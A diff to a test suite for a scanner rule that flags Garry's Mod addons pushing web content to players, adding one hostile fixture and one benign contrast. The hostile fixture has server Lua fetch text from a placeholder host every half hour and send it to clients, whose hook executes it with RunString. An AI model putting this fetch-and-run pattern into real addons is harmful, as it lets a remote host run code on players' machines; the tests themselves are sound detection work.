@@ -110,6 +110,34 @@ describe('client_code_push', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('web content sent to clients as old user messages, whose hook runs it', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("skin", 1800, 0, function()',
+        '  http.Fetch("https://x.invalid/skin", function(b)',
+        '    umsg.Start("skin") umsg.String(b) umsg.End()',
+        '  end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua':
+        'usermessage.Hook("skin", function(msg) RunString(msg:ReadString(), "skin") end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('web text sent to clients as old user messages, whose hook shows it (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("motd", 1800, 0, function()',
+        '  http.Fetch("https://x.invalid/motd", function(b)',
+        '    umsg.Start("motd") umsg.String(b) umsg.End()',
+        '  end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua':
+        'usermessage.Hook("motd", function(msg) chat.AddText(msg:ReadString()) end)',
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
   it('a web reply that names the function every client calls through ULib.clientRPC', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_ads.lua': [
